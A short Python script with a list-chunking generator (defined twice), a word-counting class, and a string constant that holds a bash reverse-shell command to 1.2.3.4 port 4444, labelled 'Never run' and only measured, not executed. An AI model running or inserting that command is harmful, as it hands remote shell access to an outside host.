#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

msg = "Never run: bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"
print(len(msg))
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
